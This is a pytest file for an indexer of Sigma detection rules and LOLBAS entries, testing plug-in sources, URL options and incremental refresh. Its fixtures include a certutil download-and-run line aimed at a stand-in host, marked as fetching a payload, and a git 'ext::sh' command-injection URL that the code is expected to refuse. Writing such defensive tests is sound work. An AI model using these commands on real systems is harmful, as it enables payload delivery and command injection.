"""Sources as plug-ins: the registry, the two real plug-ins, a third source added by a test
alone (a module's worth of code and one `register` call), and `refresh --url/--sources`."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest

from indexer.extract import Extraction, FileContext
from indexer.model import Mention
from indexer.parse import ParsedFile
from indexer.refresh import RefreshOptions, refresh
from indexer.repository import SourceError
from indexer.sources import SOURCES, get, register
from indexer.sources.base import Source

from repos import git, indexer


class Playbooks(Source):
    """A toy source: text files of `run <program> <arguments>` lines, nothing YAML about it."""

    name = "toy"
    default_url = "https://example.org/toy.git"
    web_url = "https://example.org/toy"
    branch = "main"
    paths = re.compile(r"^playbooks/[^/]+\.txt$")

    def parse(self, path: str, text: str) -> ParsedFile:
        lines = text.split("\n")
        return ParsedFile(path, lines, lines, [])

    def extract(self, ctx: FileContext, parsed: ParsedFile) -> Extraction:
        found = Extraction()
        for number, line in enumerate(parsed.lines, 1):
            match = re.match(r"run (\S+)", line)
            if match:
                found.mentions.append(
                    Mention(
                        match.group(1).lower(), ctx.source, ctx.path, number, line.strip(), field="run", role="process"
                    )
                )
        return found


@pytest.fixture()
def toy() -> Source:
    source = register(Playbooks())
    try:
        yield source
    finally:
        del SOURCES["toy"]


def _repo(root: Path, files: dict[str, str]) -> Path:
    root.mkdir()
    git("init", "-q", "-b", "main", cwd=root)
    for path, text in files.items():
        (root / path).parent.mkdir(parents=True, exist_ok=True)
        (root / path).write_text(text, encoding="utf-8")
    git("add", "-A", cwd=root)
    git("-c", "user.name=t", "-c", "user.email=t@t", "commit", "-q", "-m", "playbooks", cwd=root)
    return root


def test_a_third_source_is_one_module_and_one_registration(tmp_path: Path, toy: Source) -> None:
    """Registered here and nowhere else: refreshed, its files reported, its mentions searched
    (by a search process that never heard of it) with their lines."""
    repo = _repo(
        tmp_path / "toy",
        {
            "playbooks/download.txt": "# fetch a payload\nrun certutil.exe -urlcache -f http://x/a a.exe\nrun a.exe\n",
            "playbooks/broken.txt": "run\n",
            "README.md": "run notepad.exe\n",  # not a playbook: outside the files the source reads
        },
    )
    data_dir = tmp_path / "data"
    manifest = refresh(RefreshOptions(data_dir, [toy.spec(str(repo))]))
    assert manifest.exit_code == 0, manifest.file_errors
    assert manifest.sources["toy"].mode == "full"
    assert sorted(manifest.sources["toy"].added) == ["README.md", "playbooks/broken.txt", "playbooks/download.txt"]
    done = indexer("search", "certutil.exe", "--json", data_dir=data_dir)
    assert done.returncode == 0, done.stderr
    mentions = json.loads(done.stdout)[0]["mentions"]
    assert [(m["source"], m["path"], m["line"], m["role"]) for m in mentions] == [
        ("toy", "playbooks/download.txt", 2, "process")
    ]
    assert mentions[0]["url"].startswith("https://example.org/toy")  # the plug-in's web URL (a local repo)
    assert indexer("search", "notepad.exe", "--json", data_dir=data_dir).returncode != 0
    only = indexer("search", "certutil.exe", "--source", "toy", "--json", data_dir=data_dir)
    assert only.returncode == 0 and json.loads(only.stdout)[0]["mentions"] == mentions  # --source: the sources indexed
    other = indexer("search", "certutil.exe", "--source", "nosuch", data_dir=data_dir)
    assert other.returncode == 4 and "'nosuch' is not one of: toy" in other.stderr, other.stderr
    stats = json.loads(indexer("stats", "--json", data_dir=data_dir).stdout)
    assert stats["sources"]["toy"]["commit"] == git("rev-parse", "HEAD", cwd=repo).strip()


def test_the_registry_holds_sigma_then_lolbas_and_refuses_a_second_of_a_name() -> None:
    assert list(SOURCES)[:2] == ["sigma", "lolbas"]
    assert get("sigma").wants("rules/windows/process_creation/proc_creation_win_certutil.yml")
    assert get("sigma").wants("deprecated/windows/x.yaml") and not get("sigma").wants("tests/x.yml")
    assert get("lolbas").wants("yml/OSBinaries/Certutil.yml") and not get("lolbas").wants("README.md")
    assert get("sigma").checker.startswith("pySigma ") and not get("lolbas").checker
    with pytest.raises(ValueError, match="registered already"):
        register(get("sigma"))
    with pytest.raises(KeyError):
        get("nosuch")


def test_a_source_url_comes_from_the_option_then_the_environment_then_upstream(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.delenv("INDEXER_LOLBAS_URL", raising=False)
    assert get("lolbas").spec().url == "https://github.com/LOLBAS-Project/LOLBAS.git"
    monkeypatch.setenv("INDEXER_LOLBAS_URL", str(tmp_path / "lolbas.bundle"))
    assert get("lolbas").spec().url == str(tmp_path / "lolbas.bundle")
    assert get("lolbas").spec("https://github.com/me/LOLBAS.git").web_url == "https://github.com/me/LOLBAS"
    assert get("lolbas").spec(str(tmp_path)).web_url == "https://github.com/LOLBAS-Project/LOLBAS"
    with pytest.raises(SourceError, match="git remote helpers"):
        get("sigma").spec("ext::sh -c touch% /tmp/pwned")


@pytest.mark.parametrize(
    "args, message",
    [
        (["--url", "nosuch=/tmp/x"], "unknown source 'nosuch'"),
        (["--url", "sigma"], "not NAME=URL"),
        (["--url", "sigma=/tmp/a", "--sigma-url", "/tmp/b"], "sigma: two URLs"),
        (["--sources", "sigma,nosuch"], "'nosuch' is not one of: sigma, lolbas"),
        (["--sources", "sigma", "--url", "lolbas=/tmp/x"], "lolbas is not refreshed"),
        (["--branch", "sigma=-x"], "refused branch name '-x'"),
    ],
)
def test_refresh_source_options_are_checked(tmp_path: Path, args: list[str], message: str) -> None:
    done = indexer("refresh", *args, data_dir=tmp_path / "data")
    assert done.returncode == 4 and message in done.stderr, (done.returncode, done.stderr)
    assert "Traceback" not in done.stderr


class Recipes(Source):
    """A toy source whose files use shared definitions: `use NAME` runs what `defs/NAME.txt` runs."""

    name = "toyshared"
    default_url = "https://example.org/toyshared.git"
    web_url = "https://example.org/toyshared"
    branch = "main"
    paths = re.compile(r"^(playbooks|defs)/[^/]+\.txt$")
    defs: dict[str, str] = {}

    def shared(self, path: str) -> bool:
        return path.startswith("defs/")

    def share(self, files: dict[str, bytes]) -> None:
        self.defs = {path: raw.decode() for path, raw in files.items()}

    def parse(self, path: str, text: str) -> ParsedFile:
        lines = text.split("\n")
        return ParsedFile(path, lines, lines, [])

    def extract(self, ctx: FileContext, parsed: ParsedFile) -> Extraction:
        found = Extraction()
        for number, line in enumerate(parsed.lines, 1):
            used = re.match(r"use (\w+)", line)
            if used:
                found.depends.append(f"defs/{used.group(1)}.txt")
            text = self.defs.get(f"defs/{used.group(1)}.txt", "") if used else line
            for program in re.findall(r"run (\S+)", text):
                found.mentions.append(Mention(program, ctx.source, ctx.path, number, line.strip(), role="process"))
        return found


def _commit(root: Path, files: dict[str, str]) -> None:
    for path, text in files.items():
        (root / path).parent.mkdir(parents=True, exist_ok=True)
        (root / path).write_text(text, encoding="utf-8")
    git("add", "-A", cwd=root)
    git("-c", "user.name=t", "-c", "user.email=t@t", "commit", "-q", "-m", "change", cwd=root)


def test_a_changed_shared_file_reads_again_the_files_that_use_it(tmp_path: Path) -> None:
    """Source.shared/share/Extraction.depends: only a definition changes upstream; the incremental
    refresh reads again the playbook that uses it (not the one that does not) and equals a full build."""
    source = register(Recipes())
    try:
        repo = _repo(
            tmp_path / "toyshared",
            {
                "defs/fetch.txt": "run certutil.exe\n",
                "playbooks/a.txt": "first line\nuse fetch\n",
                "playbooks/b.txt": "run notepad.exe\n",
                "playbooks/c.txt": "use later\n",  # names a definition that does not exist yet
            },
        )
        data_dir = tmp_path / "data"
        assert refresh(RefreshOptions(data_dir, [source.spec(str(repo))])).exit_code == 0
        assert _places(data_dir, "certutil.exe") == [("defs/fetch.txt", 1), ("playbooks/a.txt", 2)]
        _commit(repo, {"defs/fetch.txt": "run bitsadmin.exe\n", "defs/later.txt": "run curl.exe\n"})
        manifest = refresh(RefreshOptions(data_dir, [source.spec(str(repo))]))
        assert manifest.sources["toyshared"].mode == "incremental"
        assert manifest.sources["toyshared"].modified == ["defs/fetch.txt"]
        assert manifest.files_parsed == 4  # the two definitions, and the two playbooks using them
        assert indexer("search", "certutil.exe", data_dir=data_dir).returncode == 1
        assert _places(data_dir, "bitsadmin.exe") == [("defs/fetch.txt", 1), ("playbooks/a.txt", 2)]
        assert _places(data_dir, "curl.exe") == [("defs/later.txt", 1), ("playbooks/c.txt", 1)]
        full_dir = tmp_path / "full"
        assert refresh(RefreshOptions(full_dir, [source.spec(str(repo))])).exit_code == 0
        for name in ("bitsadmin.exe", "curl.exe", "notepad.exe"):
            assert _places(data_dir, name) == _places(full_dir, name)
    finally:
        del SOURCES["toyshared"]


def _places(data_dir: Path, name: str) -> list[tuple[str, int]]:
    done = indexer("search", name, "--json", data_dir=data_dir)
    assert done.returncode == 0, done.stderr
    return sorted((m["path"], m["line"]) for m in json.loads(done.stdout)[0]["mentions"])
